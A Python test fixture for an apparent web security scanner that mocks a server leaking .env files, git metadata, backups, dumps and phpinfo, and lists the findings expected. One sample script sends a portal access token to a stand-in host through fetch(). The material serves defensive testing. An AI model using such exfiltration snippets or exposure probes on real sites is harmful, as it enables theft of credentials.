"""What a server must not give to anybody, and what only looks so: shared by the cases of `links_and_resources`.

Files beside the pages change nothing on the screens, so that one run proves both.
"""

from __future__ import annotations

from tests.defects.app import Answer, Asked, Fault

TOKENS = '{"access_token":"4f9k4jpm2x7q8w1e","expires_in":3600,"refresh_token":"9d8s7a6f5g4h3j2k","domain":"a.example"}'
ENVIRONMENT = "APP_ENV=production\nDB_HOST=127.0.0.1\nDB_PASSWORD=f7Gh2kLq\n# a comment\n"
ERRORS = "[21-Nov-2026 10:02:11 UTC] PHP Warning:  Undefined variable $total in /var/www/desk/deals.php on line 12\n"
LISTING = """<html><head><title>Index of /static/</title></head><body><h1>Index of /static/</h1><hr><pre><a href="../">../</a>
<a href="dot.svg">dot.svg</a>  21-Nov-2026 10:00  120</pre><hr></body></html>"""
PHPINFO = """<!DOCTYPE html><html><head><title>PHP 8.2.20 - phpinfo()</title></head><body><h1>PHP Version 8.2.20</h1>
<table><tr><td>Configure Command</td><td>./configure</td></tr></table></body></html>"""
PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><circle cx="10" cy="10" r="9"/></svg>'
LEAVING = """<script>BX24.init(function () { fetch("https://statistics.invalid/collect?page=overview&key=" +
BX24.getAuth().access_token, {mode: "no-cors"}).catch(function () {}); });</script>
<script src="http://widgets.invalid/chat.js"></script>"""
"""On the start screen: a token goes to a counter of visits, and a script is asked for by plain http."""
OPEN_DOORS = {
    "/settings.json": Answer(TOKENS, type="application/json"),
    "/.env": Answer(ENVIRONMENT, type="application/octet-stream"),
    "/.git/HEAD": Answer("ref: refs/heads/main\n", type="application/octet-stream"),
    "/.git/config": Answer("[core]\n\trepositoryformatversion = 0\n", type="application/octet-stream"),
    "/config.php.bak": Answer("<?php\n$password = 'f7Gh2kLq';\n", type="application/octet-stream"),
    "/error_log": Answer(ERRORS * 3, type="text/plain"),
    "/dump.sql": Answer("-- MySQL dump 10.13\nCREATE TABLE `portals` (\n", type="application/sql"),
    "/backup.zip": Answer(b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(4000), type="application/zip"),
    "/data.db": Answer(b"SQLite format 3\x00" + bytes(4000), type="application/octet-stream"),
    "/phpinfo.php": Answer(PHPINFO),
    "/static/": Answer(LISTING),
    "/static/dot.svg": Answer(PICTURE, type="image/svg+xml"),
}
FOUND = (
    Fault("server.exposure", "/settings.json", "tokens or keys"),
    Fault("server.exposure", "/.env", "settings with their secrets"),
    Fault("server.exposure", "/.git/HEAD", "repository"),
    Fault("server.exposure", "/config.php.bak", "source code"),
    Fault("server.exposure", "/error_log", "a log"),
    Fault("server.exposure", "/dump.sql", "a dump of a database"),
    Fault("server.exposure", "/backup.zip", "an archive"),
    Fault("server.exposure", "/data.db", "a database"),
    Fault("server.exposure", "/phpinfo.php", "phpinfo"),
    Fault("server.exposure", "/static/", "lists the files of a folder"),
    Fault("server.exposure", "/", "carries the portal's access token in its address"),
    Fault("server.exposure", "/", "the browser blocks it"),
    Fault("frame.js-errors", "/", "Mixed Content"),
)

_PUBLIC = (
    '{"apiKey": "AIzaSyA1b2C3d4E5f6G7h8I9j0", "authDomain": "desk.example", "password": "", "token": "your-token"}'
)


def closed_doors(asked: Asked) -> Answer | None:
    """Right: names that nobody gave are answered, and what looks like a secret is meant for everybody."""
    if asked.path == "/config.json":
        return Answer(_PUBLIC, type="application/json")
    if asked.path == "/.htaccess":
        return Answer("RewriteEngine On\nRewriteRule . index.php [L]\n", type="text/plain")
    if asked.path.endswith(".json"):
        return Answer(f'{{"error": "no such file", "token": null, "path": "{asked.path}"}}', type="application/json")
    if asked.path.endswith((".log", ".sql", ".txt")) or asked.path.startswith("/."):
        return Answer(f"2026-11-21 10:00:00 nothing at {asked.path}\n", type="text/plain")
    return None
